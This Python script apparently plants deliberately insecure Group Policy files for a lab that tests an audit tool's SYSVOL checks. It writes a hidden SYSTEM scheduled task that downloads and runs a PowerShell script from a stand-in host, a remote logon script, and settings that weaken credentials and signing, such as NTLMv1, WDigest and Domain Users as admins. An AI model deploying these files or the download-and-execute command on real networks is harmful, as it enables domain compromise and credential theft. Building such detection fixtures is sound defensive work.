#!/usr/bin/python3
# sysvol-plant.py -- write the planted GPO files of rempart's lab into a
# Policies folder (SYSVOL\<domain>\Policies): one GPO folder named by GUID
# with the findings the SYSVOL checks must report (a Groups.xml with a
# cpassword and Domain Users in local Administrators, an immediate scheduled
# task, a logon script outside SYSVOL, a GptTmpl.inf in UTF-16LE allowing
# NTLMv1, no SMB signing, Everyone allowed to log on locally, the spooler
# automatic, a Registry.pol turning WDigest on and LLMNR on).
#
# Usage: sysvol-plant.py POLICIES_DIR [GUID]   (prints the GPO folder)
# The cpassword is a made-up value (not an encryption of any password).
import os, struct, sys

pol = sys.argv[1]
guid = sys.argv[2] if len(sys.argv) > 2 else "{5A1E0F00-0000-4000-8000-00000000BAD1}"
g = os.path.join(pol, guid)

def put(rel, data, mode="wb"):
    p = os.path.join(g, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, mode) as f:
        f.write(data)

put("GPT.INI", b"[General]\r\nVersion=65537\r\ndisplayName=Lab Planted Policy\r\n")
put("Machine/Preferences/Groups/Groups.xml", b'''<?xml version="1.0" encoding="utf-8"?>
<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}">
  <User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="svc_backup" image="2" changed="2026-11-02 03:14:00" uid="{A1B2C3D4-0000-4000-8000-000000000001}">
    <Properties action="U" newName="" fullName="" description="" cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw" changeLogon="0" noChange="1" neverExpires="1" acctDisabled="0" userName="svc_backup"/>
  </User>
  <Group clsid="{6D4A79E4-529C-4481-ABD0-F5BD7EA93BA7}" name="Administrators (built-in)" image="2" changed="2026-11-02 03:15:00" uid="{A1B2C3D4-0000-4000-8000-000000000002}">
    <Properties action="U" newName="" description="" deleteAllUsers="0" deleteAllGroups="0" removeAccounts="0" groupSid="S-1-5-32-544" groupName="Administrators (built-in)">
      <Members>
        <Member name="LAB\\Domain Users" action="ADD" sid="S-1-5-21-1111111111-2222222222-3333333333-513"/>
      </Members>
    </Properties>
  </Group>
</Groups>
''')
put("Machine/Preferences/ScheduledTasks/ScheduledTasks.xml", b'''<?xml version="1.0" encoding="utf-8"?>
<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}">
  <ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="WindowsUpdateCheck" image="0" changed="2026-11-02 03:20:00" uid="{A1B2C3D4-0000-4000-8000-000000000003}">
    <Properties action="C" name="WindowsUpdateCheck" runAs="NT AUTHORITY\\System" logonType="S4U">
      <Task version="1.3">
        <Principals><Principal id="Author"><UserId>NT AUTHORITY\\System</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
        <Actions Context="Author"><Exec><Command>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Command><Arguments>-nop -w hidden -c "iex (iwr http://10.0.0.66/a.ps1)"</Arguments></Exec></Actions>
      </Task>
    </Properties>
  </ImmediateTaskV2>
</ScheduledTasks>
''')
def utf16(s):
    return b"\xff\xfe" + s.encode("utf-16-le")
put("User/Scripts/scripts.ini", utf16("\r\n[Logon]\r\n0CmdLine=\\\\10.0.0.66\\share\\run.bat\r\n0Parameters=\r\n1CmdLine=logon.bat\r\n1Parameters=\r\n"))
put("User/Scripts/Logon/logon.bat", b"@echo off\r\nnet use Z: \\\\fileserver\\home\r\n")
put("User/Scripts/Logon/unnamed.bat", b"@echo not named by scripts.ini: not collected\r\n")
put("Machine/Microsoft/Windows NT/SecEdit/GptTmpl.inf", utf16(
    "[Unicode]\r\nUnicode=yes\r\n[Version]\r\nsignature=\"$CHICAGO$\"\r\nRevision=1\r\n"
    "[Registry Values]\r\n"
    "MACHINE\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel=4,1\r\n"
    "MACHINE\\System\\CurrentControlSet\\Services\\LanManServer\\Parameters\\RequireSecuritySignature=4,0\r\n"
    "[Privilege Rights]\r\nSeInteractiveLogonRight = *S-1-5-32-544,*S-1-1-0\r\n"
    "[Service General Setting]\r\n\"Spooler\",2,\"\"\r\n"))
def preg(key, value, typ, data):
    w = lambda s: s.encode("utf-16-le") + b"\0\0"
    return (b"[\0" + w(key) + b";\0" + w(value) + b";\0" + struct.pack("<I", typ) +
            b";\0" + struct.pack("<I", len(data)) + b";\0" + data + b"]\0")
put("Machine/Registry.pol", b"PReg" + struct.pack("<I", 1) +
    preg("System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 4, struct.pack("<I", 1)) +
    preg("Software\\Policies\\Microsoft\\Windows NT\\DNSClient", "EnableMulticast", 4, struct.pack("<I", 1)))
print(g)
